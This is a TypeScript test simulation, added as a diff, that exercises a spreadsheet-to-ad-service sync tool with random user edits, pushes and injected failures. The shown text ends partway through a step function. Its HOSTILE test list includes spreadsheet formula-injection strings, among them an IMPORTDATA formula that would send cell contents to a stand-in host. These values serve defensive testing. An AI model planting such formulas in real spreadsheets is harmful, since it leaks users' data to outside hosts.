@@ -1,0 +1,1160 @@
+// test, sim: what happens in one step: a person at the grid or in the sidebar, somebody at the service, the clock.
+
+import type { Targets } from '../../workbench/ad-service/state';
+import { fixesOf, jobOf, pullArgs, pushArgs, resolveArgs, revertArgs, undoArgs } from './calls';
+import type { Dice } from './dice';
+import type { SeenRow, SeenSheet } from './grid';
+import type { JobSeen } from './oracle';
+import {
+  approvedRows,
+  marker,
+  type Person,
+  pickTab,
+  type ReviewSeen,
+  type Sim,
+  type Trouble,
+  tabOfSheet,
+  type UndoSeen,
+} from './sim';
+import { type Cell, type Kind, type SimTab, TABS } from './tabs';
+import { ANNA, BORIS, type Mishap } from './world';
+
+/** What a cell of the service may hold and a spreadsheet likes to change. */
+const HOSTILE = [
+  '=HYPERLINK("https://x.invalid/","c")',
+  '=IMPORTDATA("https://x.invalid/"&A1)',
+  '=1+1',
+  '+49',
+  '-5',
+  '007',
+  '1E5',
+  '1-2',
+  '50%',
+  'TRUE',
+  '2026-01-15',
+  '1,5',
+  '$5.00',
+  ' space before',
+  "'quoted",
+  '@home',
+  '🎮 up',
+];
+const COUNTRIES = ['US', 'DE', 'FR', 'MX', 'JP', 'BR'];
+
+/** Steps that a mode makes likelier; a mode is a story that people tell each other. */
+export type StepName = keyof typeof STEPS;
+export type Weights = Partial<Record<StepName, number>>;
+
+const BASE: Weights = {
+  edit: 22,
+  editAgain: 4,
+  newRow: 3,
+  automatic: 3,
+  clear: 2,
+  formula: 1,
+  sort: 4,
+  insertRows: 2,
+  deleteRow: 2,
+  insertColumn: 1,
+  moveColumn: 1,
+  note: 2,
+  filter: 1,
+  renameTab: 1,
+  copyTab: 0.4,
+  disable: 2,
+  sortLog: 1,
+  trimLog: 1,
+  elsewhere: 10,
+  pull: 6,
+  check: 3,
+  fix: 2,
+  review: 9,
+  resolve: 4,
+  resolveAll: 1,
+  revert: 2,
+  push: 12,
+  stepJob: 9,
+  finishJob: 6,
+  cancel: 1,
+  undoLook: 2,
+  undoStart: 3,
+  chooseCompany: 1,
+  clock: 1,
+};
+
+/** Each seed belongs to one of them. */
+export const MODES: Readonly<Record<string, Weights>> = {
+  all: BASE,
+  colleagues: { ...BASE, elsewhere: 30, review: 14, push: 20, finishJob: 12, resolve: 8, resolveAll: 4 },
+  countries: {
+    edit: 8,
+    targetsEdit: 26,
+    disable: 22,
+    enable: 6,
+    elsewhere: 5,
+    pull: 6,
+    review: 3,
+    pushAll: 34,
+    undoAll: 6,
+    finishJob: 4,
+  },
+  formats: {
+    ...BASE,
+    automatic: 26,
+    hostileElsewhere: 26,
+    pull: 16,
+    pushAll: 10,
+    resolve: 6,
+    resolveAll: 6,
+    review: 8,
+    revert: 8,
+  },
+  sheet: {
+    ...BASE,
+    sort: 14,
+    insertRows: 8,
+    deleteRow: 6,
+    insertColumn: 6,
+    moveColumn: 8,
+    note: 8,
+    pull: 12,
+    check: 8,
+    pushAll: 8,
+  },
+  companies: {
+    edit: 20,
+    newRow: 14,
+    review: 20,
+    chooseCompany: 18,
+    push: 24,
+    stepJob: 10,
+    finishJob: 8,
+    pull: 4,
+    elsewhere: 3,
+  },
+  lost: {
+    edit: 20,
+    assetEdit: 6,
+    newRow: 10,
+    elsewhere: 8,
+    elsewhereJust: 10,
+    review: 3,
+    lostPush: 26,
+    finishJob: 10,
+    stepJob: 6,
+    pull: 6,
+    pushAll: 6,
+    clock: 4,
+  },
+  undo: {
+    edit: 14,
+    targetsEdit: 8,
+    disable: 8,
+    sortLog: 6,
+    trimLog: 6,
+    elsewhere: 8,
+    pushAll: 24,
+    undoAll: 26,
+    undoLook: 4,
+    undoStart: 6,
+    pull: 4,
+    finishJob: 6,
+  },
+  log: {
+    edit: 30,
+    pushSlow: 26,
+    stepJob: 26,
+    sortLog: 22,
+    trimLog: 14,
+    finishJob: 6,
+    elsewhere: 3,
+    undoAll: 4,
+  },
+  choices: {
+    edit: 14,
+    editAgain: 14,
+    elsewhere: 16,
+    elsewhereJust: 10,
+    pull: 12,
+    review: 14,
+    resolve: 18,
+    resolveAll: 10,
+    revert: 12,
+    check: 6,
+    fix: 10,
+    sort: 5,
+    finishJob: 4,
+  },
+  typing: { edit: 14, typingPull: 26, typingPush: 16, elsewhere: 24, pull: 6, formula: 4, finishJob: 6 },
+  faults: { ...BASE, lostPush: 12, killedCall: 18, clock: 6, finishJob: 14 },
+};
+
+type Step = (sim: Sim, dice: Dice) => Promise<string>;
+
+const otherOf = (user: string): string => (user === ANNA ? BORIS : ANNA);
+const anyone = (dice: Dice): string => (dice.chance(0.75) ? ANNA : BORIS);
+
+// ---- at the grid -------------------------------------------------------------------------------------------------
+
+export function newValue(sim: Sim, dice: Dice, kind: Kind, was: Cell): Cell {
+  const n = sim.unique();
+  switch (kind) {
+    case 'tick':
+      return was !== true;
+    case 'amount':
+      return (100 + (n % 9000)) / 100 + 1;
+    case 'percent':
+      return (n % 300) - 60 === 0 ? 7 : (n % 300) - 60;
+    case 'whole':
+      return 5 + (n % 12);
+    case 'codes':
+      return dice.pick(['DE, FR', 'US', 'AT, DE', ''] as const)!;
+    case 'url':
+      return `https://track.example/${n}`;
+    default:
+      return `typed ${n}`;
+  }
+}
+
+/** Rows of the service: those that have an ID, or their own keys. */
+const known = (tab: SimTab, row: SeenRow): boolean =>
+  tab.keys.every((header) => row.cells[header]?.value != null);
+
+function editable(tab: SimTab, row: SeenRow): string[] {
+  return Object.entries(tab.edits)
+    .filter(([header, kind]) => {
+      const value = row.cells[header]?.value ?? null;
+      if (header === 'Remove' || header === 'Disabled') return false;
+      if (tab.id === 'device-targeting' && kind === 'tick') return row.cells.Platform?.value === 'ios';
+      if (tab.id === 'assets') return /^TXT_(TITLE|BUTTON|SUBTITLE)$/.test(String(row.cells.Type?.value));
+      // What stands in DEFAULT must not stand in a country as well, and an override has one of two values.
+      if (kind === 'amount' || kind === 'url' || kind === 'percent') return value !== null;
+      return true;
+    })
+    .map(([header]) => header);
+}
+
+async function type(
+  sim: Sim,
+  user: string,
+  sheet: SeenSheet,
+  row: SeenRow,
+  header: string,
+  value: Cell,
+  look: 'kept' | 'automatic' | 'percent' = 'kept',
+): Promise<void> {
+  const column = sim.world.grid.columnOf(sheet.id, header);
+  const tab = tabOfSheet(sim, sheet);
+  if (column === 0 || !tab) return;
+  sim.world.grid.put(sheet.id, row.row, column, value, look);
+  sim.oracle.typed(tab.id, marker(row), header, value);
+  if (tab.keys.includes(header)) sim.oracle.renamed(tab.id, marker(row));
+  if (sim.step % 3 !== 0) return;
+  const results = await sim.world.host.edited({
+    user,
+    session: `page-${user}`,
+    sheetId: sheet.id,
+    range: { row: row.row, column, rows: 1, columns: 1 },
+    value,
+  });
+  for (const { ok, error } of results) if (!ok) sim.trace.push(`onEdit: ${error?.message}`);
+}
+
+async function editSomewhere(sim: Sim, dice: Dice, ids?: readonly string[]): Promise<string> {
+  const sheet = pickTab(sim, dice, ids ?? TABS.filter(({ id }) => id !== 'app-lists').map(({ id }) => id));
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const rows =
+    sheet && tab ? sheet.rows.filter((row) => known(tab, row) && editable(tab, row).length > 0) : [];
+  const row = dice.pick(rows);
+  if (!sheet || !tab || !row) return 'nothing to edit';
+  const header = dice.pick(editable(tab, row))!;
+  const value = newValue(sim, dice, tab.edits[header]!, row.cells[header]?.value ?? null);
+  await type(sim, anyone(dice), sheet, row, header, value);
+  return `edit ${tab.id} row ${row.row} ${header} ${JSON.stringify(value)}`;
+}
+
+const edit: Step = (sim, dice) => editSomewhere(sim, dice);
+const targetsEdit: Step = (sim, dice) => editSomewhere(sim, dice, ['targets']);
+const assetEdit: Step = (sim, dice) => editSomewhere(sim, dice, ['assets']);
+
+/** A cell that already differs from the service. */
+const editAgain: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice, ['campaigns', 'targets', 'source-bids']);
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const held = sim.world.held(sim.world.service.companies[0]!.company_id);
+  const dirty = (sheet?.rows ?? []).flatMap((row) =>
+    Object.keys(tab?.edits ?? {})
+      .filter((header) => {
+        const key = tab!.keys.map((one) => row.cells[one]?.value ?? '').join(' | ');
+        const there = held.get(tab!.id)?.get(key)?.[header];
+        return (
+          there !== undefined && tab!.edits[header] !== 'tick' && (row.cells[header]?.value ?? null) !== there
+        );
+      })
+      .map((header) => ({ row, header })),
+  );
+  const chosen = dice.pick(dirty);
+  if (!sheet || !tab || !chosen) return editSomewhere(sim, dice);
+  const value = newValue(sim, dice, tab.edits[chosen.header]!, null);
+  await type(sim, anyone(dice), sheet, chosen.row, chosen.header, value);
+  return `edit again ${tab.id} row ${chosen.row.row} ${chosen.header} ${JSON.stringify(value)}`;
+};
+
+/** What a paste from elsewhere brings along: the cell's format is Automatic from then on. */
+const automatic: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'ads', 'assets', 'targets']);
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
+  if (!sheet || !tab || !row) return 'nothing to paste over';
+  const texts = Object.keys(tab.edits).filter((header) => ['text', 'url'].includes(tab.edits[header]!));
+  const header = dice.pick(texts);
+  if (!header || (tab.id === 'assets' && !editable(tab, row).includes(header)))
+    return 'nothing to paste over';
+  const column = sim.world.grid.columnOf(sheet.id, header);
+  if (column === 0) return 'no such column';
+  const was = row.cells[header]?.value ?? null;
+  const value = dice.chance(0.6) ? was : newValue(sim, dice, tab.edits[header]!, was);
+  if (value === null) return 'nothing to paste';
+  sim.world.grid.put(sheet.id, row.row, column, value, 'automatic');
+  if (value !== was) sim.oracle.typed(tab.id, marker(row), header, value);
+  return `paste with Automatic format ${tab.id} row ${row.row} ${header} ${JSON.stringify(value)}`;
+};
+
+const clear: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'source-bids', 'device-targeting']);
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
+  if (!sheet || !tab || !row) return 'nothing to clear';
+  const header = dice.pick(Object.keys(tab.edits))!;
+  await type(sim, anyone(dice), sheet, row, header, null);
+  return `clear ${tab.id} row ${row.row} ${header}`;
+};
+
+const formula: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice, ['campaigns', 'targets']);
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const row = dice.pick(
+    (sheet?.rows ?? []).filter(
+      (one) => tab && known(tab, one) && editable(tab, one).includes(tab.id === 'campaigns' ? 'Name' : 'Bid'),
+    ),
+  );
+  if (!sheet || !tab || !row) return 'nowhere to put a formula';
+  const header = tab.id === 'campaigns' ? 'Name' : 'Bid';
+  const n = sim.unique();
+  const text = tab.id === 'campaigns' ? `="SIM "&"${n}"` : `=N("SIM")+${n % 900}+1`;
+  const value = tab.id === 'campaigns' ? `SIM ${n}` : (n % 900) + 1;
+  await sim.script(ANNA, 'simFormula', sheet.id, row.row, sim.world.grid.columnOf(sheet.id, header), text);
+  sim.oracle.typed(tab.id, marker(row), header, value, text);
+  return `formula ${tab.id} row ${row.row} ${header} ${text}`;
+};
+
+const NEW_CAMPAIGN = (name: string): Record<string, Cell> => ({
+  Name: name,
+  Active: true,
+  Platform: 'android',
+  'Bid type': 'CPI',
+  'Package name': 'example.sim.app',
+  Category: 'Games',
+  'Tracking method': 'custom_track',
+});
+
+const newRow: Step = async (sim, dice) => {
+  const id = dice.pick([
+    'campaigns',
+    'campaigns',
+    'sources',
+    'source-bids',
+    'creative-sets',
+    'app-lists',
+    'targets',
+  ])!;
+  const sheet = sim.oracle.sheetOf(id);
+  const campaigns = sim.oracle.sheetOf('campaigns');
+  const campaign = dice.pick(
+    (campaigns?.rows ?? []).filter((row) => row.cells['Campaign ID']?.value != null),
+  );
+  if (!sheet || !campaign) return 'no room for a row';
+  const n = sim.unique();
+  const campaignId = campaign.cells['Campaign ID']!.value;
+  const cells: Record<string, Cell> =
+    id === 'campaigns'
+      ? NEW_CAMPAIGN(`new ${n}`)
+      : id === 'sources'
+        ? { 'Campaign ID': campaignId, 'App ID': `app${n}`, Active: true }
+        : id === 'source-bids'
+          ? {
+              'Campaign ID': campaignId,
+              'App ID': `app${n}`,
+              Country: dice.pick(COUNTRIES),
+              'Bid value': 1.5,
+            }
+          : id === 'creative-sets'
+            ? { 'Campaign ID': campaignId, Name: `set ${n}`, ...(dice.chance(0.4) ? { CTV: true } : {}) }
+            : id === 'app-lists'
+              ? { Name: `list ${n}` }
+              : { 'Campaign ID': campaignId, Country: dice.pick(COUNTRIES) };
+  const row = Math.max(1, ...sheet.rows.map((one) => one.row)) + 1;
+  for (const [header, value] of Object.entries(cells)) {
+    const column = sim.world.grid.columnOf(sheet.id, header);
+    if (column > 0) sim.world.grid.put(sheet.id, row, column, value);
+  }
+  return `new row ${row} of ${id} ${JSON.stringify(cells)}`;
+};
+
+const disable: Step = async (sim, dice) => {
+  const sheet = sim.oracle.sheetOf('targets');
+  const row = dice.pick(
+    (sheet?.rows ?? []).filter(
+      (one) => one.cells.Country?.value !== 'DEFAULT' && one.cells.Disabled?.value !== true,
+    ),
+  );
+  if (!sheet || !row) return 'no country to disable';
+  await type(sim, anyone(dice), sheet, row, 'Disabled', true);
+  return `disable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
+};
+
+const enable: Step = async (sim, dice) => {
+  const sheet = sim.oracle.sheetOf('targets');
+  const row = dice.pick((sheet?.rows ?? []).filter((one) => one.cells.Disabled?.value === true));
+  if (!sheet || !row) return 'no country to enable';
+  await type(sim, anyone(dice), sheet, row, 'Disabled', false);
+  return `enable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
+};
+
+const sort: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  if (!sheet) return 'nothing to sort';
+  const column = dice.whole(1, Math.max(1, sheet.headers.length));
+  const ascending = dice.chance(0.5);
+  await sim.script(anyone(dice), 'simSort', sheet.id, column, ascending);
+  return `sort ${sheet.name} by ${sheet.headers[column - 1]} ${ascending ? 'up' : 'down'}`;
+};
+
+const insertRows: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  if (!sheet) return 'nowhere to insert';
+  const at = dice.whole(2, sheet.rows.length + 1);
+  await sim.script(anyone(dice), 'simInsertRows', sheet.id, at, dice.whole(1, 2));
+  return `insert rows at ${at} of ${sheet.name}`;
+};
+
+const deleteRow: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  const tab = sheet && tabOfSheet(sim, sheet);
+  const row = dice.pick(sheet?.rows ?? []);
+  if (!sheet || !tab || !row) return 'nothing to delete';
+  sim.oracle.forget(tab.id, [marker(row)]);
+  await sim.script(anyone(dice), 'simDeleteRows', sheet.id, row.row, 1);
+  return `delete row ${row.row} of ${sheet.name}`;
+};
+
+const insertColumn: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  if (!sheet || sheet.headers.length > 26) return 'no column inserted';
+  const at = dice.whole(1, sheet.headers.length);
+  await sim.script(anyone(dice), 'simInsertColumn', sheet.id, at);
+  return `insert a column before ${at} of ${sheet.name}`;
+};
+
+const moveColumn: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  const from = sheet ? sim.world.grid.columnOf(sheet.id, 'Own') : 0;
+  if (!sheet || from === 0) return 'no column of one’s own';
+  const to = dice.pick([1, 2, 3, dice.whole(1, sheet.headers.length)])!;
+  await sim.script(anyone(dice), 'simMoveColumn', sheet.id, from, to);
+  return `move Own of ${sheet.name} from ${from} to ${to}`;
+};
+
+const note: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  const row = dice.pick(sheet?.rows ?? []);
+  const column = sheet ? sim.world.grid.columnOf(sheet.id, 'Own') : 0;
+  if (!sheet || !row || column === 0 || marker(row) === '') return 'no note';
+  await sim.script(anyone(dice), 'simNote', sheet.id, row.row, column, `note of ${marker(row)}`);
+  return `note on ${marker(row)} of ${sheet.name}`;
+};
+
+const filter: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice, ['campaigns', 'targets', 'source-bids']);
+  if (!sheet) return 'nothing to filter';
+  const column = dice.whole(1, sheet.headers.length);
+  const hidden = String(sheet.rows[0]?.cells[sheet.headers[column - 1]!]?.value ?? '');
+  await sim.script(anyone(dice), 'simFilter', sheet.id, column, [hidden]);
+  return `filter ${sheet.name} by column ${column}`;
+};
+
+const renameTab: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  if (!sheet) return 'nothing to rename';
+  await sim.script(anyone(dice), 'simRename', sheet.id, `Ours ${sim.unique()}`);
+  return `rename ${sheet.name}`;
+};
+
+const copyTab: Step = async (sim, dice) => {
+  const sheet = pickTab(sim, dice);
+  if (!sheet || sim.world.grid.sheets().length > 16) return 'nothing to copy';
+  await sim.script(anyone(dice), 'simCopy', sheet.id);
+  return `copy ${sheet.name}`;
+};
+
+const sortLog: Step = async (sim, dice) => {
+  const log = sim.world.grid.byName('Bidgrid log');
+  if (!log || log.rows.length < 2) return 'no log to sort';
+  sim.oracle.logTouched = true;
+  await sim.script(anyone(dice), 'simSort', log.id, dice.whole(1, log.headers.length), dice.chance(0.5));
+  return 'sort the log';
+};
+
+const trimLog: Step = async (sim, dice) => {
+  const log = sim.world.grid.byName('Bidgrid log');
+  const row = dice.pick(log?.rows ?? []);
+  if (!log || !row) return 'no log to trim';
+  sim.oracle.logTouched = true;
+  if (dice.chance(0.3)) await sim.script(BORIS, 'simInsertRows', log.id, row.row, 1);
+  else await sim.script(BORIS, 'simDeleteRows', log.id, row.row, 1);
+  return `trim the log at ${row.row}`;
+};
+
+// ---- at the service ----------------------------------------------------------------------------------------------
+
+function changeService(sim: Sim, change: () => string): string {
+  const company = sim.world.service.companies[0]!.company_id;
+  const before = sim.world.held(company);
+  const what = change();
+  sim.oracle.outside(before, sim.world.held(company));
+  return `elsewhere: ${what}`;
+}
+
+function changeSomething(sim: Sim, dice: Dice, hostile: boolean): string {
+  const { state, companies } = sim.world.service;
+  const company = companies[0]!.company_id;
+  const campaigns = [...state.campaigns.values()].filter(({ company_id }) => company_id === company);
+  const campaign = dice.pick(campaigns)!;
+  const n = sim.unique();
+  const text = hostile ? dice.pick(HOSTILE)! : `theirs ${n}`;
+  const targets = state.targets.get(campaign.campaign_id)!;
+  const inventory = state.inventories.get(campaign.campaign_id);
+  const sets = [...state.creative_sets.values()].filter(
+    ({ campaign_id }) => campaign_id === campaign.campaign_id,
+  );
+  switch (
+    dice.weighted({
+      name: 4,
+      status: 1,
+      bid: hostile ? 0 : 4,
+      country: hostile ? 0 : 2,
+      source: hostile ? 0 : 1,
+      override: hostile ? 0 : 3,
+      set: 3,
+      ad: 2,
+      asset: 2,
+      device: hostile ? 0 : 1,
+    })
+  ) {
+    case 'name':
+      campaign.name = text;
+      return `campaign ${campaign.campaign_id} is named ${text}`;
+    case 'status':
+      campaign.status = !campaign.status;
+      return `campaign ${campaign.campaign_id} status ${campaign.status}`;
+    case 'bid':
+      return changeBid(dice, targets, campaign.campaign_id, n);
+    case 'country': {
+      const code = dice.pick(COUNTRIES)!;
+      if (targets.countries.has(code)) targets.countries.delete(code);
+      else targets.countries.set(code, { ...[...targets.countries].find(([one]) => one !== 'DEFAULT')?.[1] });
+      return `country ${code} of ${campaign.campaign_id} ${targets.countries.has(code) ? 'added' : 'disabled'}`;
+    }
+    case 'source': {
+      const source = dice.pick(inventory?.sources ?? []);
+      if (source) source.status = !source.status;
+      return `source ${source?.app_id} of ${campaign.campaign_id}`;
+    }
+    case 'override': {
+      const bid = dice.pick(inventory?.bids ?? []);
+      if (!bid) return 'no override';
+      if (dice.chance(0.5))
+        Object.assign(bid, { bid_override_percentage: String(10 + (n % 80)), bid_value: 'default' });
+      else Object.assign(bid, { bid_override_percentage: 'default', bid_value: `${3 + (n % 90) / 100}` });
+      return `override ${bid.app_id} ${bid.country} of ${campaign.campaign_id}`;
+    }
+    case 'set': {
+      const set = dice.pick(sets);
+      if (set) set.name = text;
+      return `set ${set?.creative_set_id} is named ${text}`;
+    }
+    case 'ad': {
+      const ad = state.ads.get(dice.pick(sets.flatMap(({ ads }) => ads)) ?? -1);
+      if (ad) ad.name = text;
+      return `ad ${ad?.id} is named ${text}`;
+    }
+    case 'asset': {
+      const asset = dice.pick(
+        sets
+          .flatMap(({ assets }) => assets)
+          .filter(({ type: one }) => /^TXT_(TITLE|BUTTON|SUBTITLE)$/.test(one)),
+      );
+      if (asset) asset.asset = text;
+      return `asset ${asset?.type} is ${text}`;
+    }
+    default: {
+      targets.os_major_version_min = 5 + (n % 12);
+      if (campaign.platform === 'ios') targets.device_types = dice.pick([['phone'], ['tablet'], []])!;
+      return `devices of ${campaign.campaign_id}`;
+    }
+  }
+}
+
+function changeBid(dice: Dice, targets: Targets, id: string, n: number): string {
+  const having = [...targets.countries].filter(([, values]) => values.bid !== undefined);
+  const chosen = dice.pick(having);
+  if (!chosen) return 'no bid';
+  if (dice.chance(0.7)) chosen[1].bid = 20 + (n % 900) / 100;
+  else chosen[1].budget = chosen[1].budget === undefined ? undefined : 400 + (n % 90);
+  return `${id} ${chosen[0]} bid ${chosen[1].bid} budget ${chosen[1].budget}`;
+}
+
+const elsewhere: Step = async (sim, dice) =>
+  changeService(sim, () => changeSomething(sim, dice, dice.chance(0.15)));
+const hostileElsewhere: Step = async (sim, dice) =>
+  changeService(sim, () => changeSomething(sim, dice, true));
+
+/** Where somebody has an edit that is not pushed: the same field, or one beside it. */
+const elsewhereJust: Step = async (sim, dice) =>
+  changeService(sim, () => {
+    const rows = [...Object.values(sim.people)].flatMap(({ review }) => review?.rows ?? []);
+    const row = dice.pick(rows.filter(({ action }) => action === 'update'));
+    if (!row) return changeSomething(sim, dice, false);
+    const { state } = sim.world.service;
+    const n = sim.unique();
+    const [first, second, third] = row.key.split(' | ');
+    if (row.tab === 'campaigns') {
+      const campaign = state.campaigns.get(first!);
+      if (campaign) campaign.name = `theirs ${n}`;
+    } else if (row.tab === 'targets') {
+      const values = state.targets.get(first!)?.countries.get(second!);
+      if (values?.bid !== undefined) values.bid = 30 + (n % 900) / 100;
+      else if (values?.click_url !== undefined) values.click_url = `https://theirs.example/${n}`;
+    } else if (row.tab === 'source-bids') {
+      const bid = state.inventories
+        .get(first!)
+        ?.bids.find((one) => one.app_id === second && one.country === third);
+      if (bid) Object.assign(bid, { bid_override_percentage: 'default', bid_value: `${4 + (n % 90) / 100}` });
+    } else if (row.tab === 'creative-sets') {
+      const set = state.creative_sets.get(first!);
+      if (set) set.name = `theirs ${n}`;
+    } else if (row.tab === 'ads') {
+      const ad = state.ads.get(Number(first));
+      if (ad) ad.name = `theirs ${n}`;
+    } else if (row.tab === 'assets') {
+      const asset = state.creative_sets.get(first!)?.assets.find(({ type: one }) => one === second);
+      if (asset && /^TXT_(TITLE|BUTTON|SUBTITLE)/.test(asset.type)) asset.asset = `theirs ${n}`;
+    } else return changeSomething(sim, dice, false);
+    return `near ${row.tab} ${row.key}`;
+  });
+
+const clock: Step = async (sim, dice) => {
+  const minutes = dice.pick([1, 7, 61, 61, 1500])!;
+  sim.world.pass(minutes * 60_000);
+  return `${minutes} minutes pass`;
+};
+
+// ---- in the sidebar ----------------------------------------------------------------------------------------------
+
+const finish = async (sim: Sim, user: string, most = 30): Promise<void> => {
+  for (let i = 0; i < most && sim.job; i += 1) {
+    const stepped = await sim.ask<JobSeen & { resumeAt: number | null }>(user, 'jobStep', [sim.job]);
+    if (stepped.cut || !stepped.ok) return;
+    sim.saw(stepped.value);
+    if (stepped.value?.state === 'parked') return;
+  }
+};
+
+async function startPull(sim: Sim, user: string, trouble: Trouble = {}): Promise<boolean> {
+  const started = await sim.ask<JobSeen>(user, 'pullStart', pullArgs());
+  sim.saw(started.value);
+  if (!started.ok || !sim.job) return false;
+  sim.jobOwner = user;
+  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], trouble);
+  sim.saw(stepped.value);
+  return true;
+}
+
+const pull: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  if (!(await startPull(sim, user))) return `${user} can't pull`;
+  await finish(sim, user);
+  return `${user} pulls`;
+};
+
+async function lookAtReview(sim: Sim, user: string): Promise<ReviewSeen | null> {
+  const built = await sim.ask<ReviewSeen>(user, 'reviewBuild', []);
+  if (built.ok && built.value) sim.people[user]!.review = built.value;
+  return built.ok ? (built.value ?? null) : null;
+}
+
+const review: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const view = await lookAtReview(sim, user);
+  return `${user} reviews ${view?.rows.length} rows, ${view?.conflicts.length} conflicts`;
+};
+
+async function startPush(sim: Sim, dice: Dice, user: string, trouble: Trouble = {}): Promise<boolean> {
+  const view = sim.people[user]!.review;
+  if (!view || view.rows.length === 0) return false;
+  const leaveOut = dice.chance(0.2)
+    ? view.rows.filter(() => dice.chance(0.3)).map(({ tab, key }) => ({ tab, key }))
+    : [];
+  const approval = sim.oracle.approve(user, 'push', view.account, approvedRows(view.rows, leaveOut));
+  const started = await sim.ask<JobSeen>(user, 'pushStart', pushArgs(view, leaveOut), trouble);
+  if (started.ok && started.value) {
+    approval.job = jobOf(started.value).id;
+    sim.jobOwner = user;
+    sim.figures.pushed += 1;
+    sim.saw(started.value);
+    sim.people[user]!.review = null;
+    return true;
+  }
+  if (!started.cut) {
+    sim.oracle.refuse(approval);
+    sim.figures.refused += 1;
+  }
+  return false;
+}
+
+const push: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const began = await startPush(sim, dice, user);
+  if (began && dice.chance(0.6)) await finish(sim, user);
+  return `${user} pushes: ${began}`;
+};
+
+/** Review and push at once, as most people do. */
+const pushAll: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  await finish(sim, sim.jobOwner || user);
+  await lookAtReview(sim, user);
+  const began = await startPush(sim, dice, user);
+  if (began) await finish(sim, user);
+  return `${user} reviews and pushes: ${began}`;
+};
+
+/** A push whose steps end early, so that people come in between. */
+const pushSlow: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  await finish(sim, sim.jobOwner || user);
+  await lookAtReview(sim, user);
+  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
+  const at = dice.whole(10, 260);
+  const trouble = dice.chance(0.5)
+    ? { killAt: at }
+    : { meanwhile: new Map([[at, async () => void (await intrude(sim, dice, ['sortLog', 'trimLog']))]]) };
+  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], trouble);
+  sim.saw(stepped.value);
+  return `${user} pushes; ${trouble.killAt ? 'killed' : 'the log changes'} at call ${at}`;
+};
+
+const MISHAPS: readonly Mishap[] = [
+  'drop-before',
+  'drop-after',
+  'drop-after',
+  'drop-after',
+  'truncate',
+  'after-503',
+  'after-page',
+  'after-nothing',
+  { status: 500 },
+  { status: 429, retryAfter: 2 },
+  { status: 429, retryAfter: 3600 },
+  { status: 400 },
+  { status: 404 },
+];
+
+const requestTrouble = (dice: Dice): Trouble => {
+  const from = dice.whole(1, 12);
+  return { mishaps: [{ from, to: dice.chance(0.25) ? from + 3 : from, what: dice.pick(MISHAPS)! }] };
+};
+
+const lostPush: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  if (!sim.people[user]!.review || dice.chance(0.6)) {
+    await finish(sim, sim.jobOwner || user);
+    await lookAtReview(sim, user);
+  }
+  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
+  const trouble = dice.chance(0.25) ? { killAt: dice.whole(30, 400) } : requestTrouble(dice);
+  // A colleague answers to the trouble before anybody goes on.
+  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], {
+    ...trouble,
+    meanwhile: dice.chance(0.3)
+      ? new Map([[dice.whole(60, 400), async () => void (await elsewhereJust(sim, dice))]])
+      : undefined,
+  });
+  sim.saw(stepped.value);
+  return `${user} pushes with trouble ${JSON.stringify(trouble)}`;
+};
+
+const HOST_ERRORS = [
+  'Service Spreadsheets timed out while accessing document.',
+  'Service invoked too many times for one day: urlfetch.',
+  "We're sorry, a server error occurred. Please wait a bit and try again.",
+];
+
+const killedCall: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const at = Math.floor(dice.next() ** 2 * 500) + 1;
+  const trouble: Trouble = dice.chance(0.6)
+    ? { killAt: at }
+    : { refuseAt: { n: at, message: dice.pick(HOST_ERRORS)!, only: /^(set|get|flush|fetch|insert)/ } };
+  const name = dice.pick(['jobStep', 'reviewBuild', 'checkRun', 'pullStart'] as const)!;
+  if (name === 'pullStart') await startPull(sim, user, trouble);
+  else if (name === 'jobStep' && !sim.job) await startPull(sim, user, trouble);
+  else {
+    const result = await sim.ask<JobSeen & ReviewSeen>(
+      user,
+      name,
+      name === 'jobStep' ? [sim.job] : [],
+      trouble,
+    );
+    if (name === 'jobStep') sim.saw(result.value);
+  }
+  return `${user} ${name} with ${JSON.stringify(trouble)}`;
+};
+
+const stepJob: Step = async (sim, dice) => {
+  if (!sim.job) return 'no job';
+  const user = dice.chance(0.85) ? sim.jobOwner || ANNA : otherOf(sim.jobOwner || ANNA);
+  const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job]);
+  sim.saw(stepped.value);
+  return `${user} steps: ${stepped.value?.state ?? stepped.sentence}`;
+};
+
+const finishJob: Step = async (sim) => {
+  if (!sim.job) return 'no job';
+  await finish(sim, sim.jobOwner || ANNA);
+  return `the job is stepped: ${sim.job ?? 'over'}`;
+};
+
+const cancel: Step = async (sim, dice) => {
+  if (!sim.job) return 'no job';
+  const user = anyone(dice);
+  const cancelled = await sim.ask<JobSeen>(user, 'jobCancel', [sim.job]);
+  sim.saw(cancelled.value);
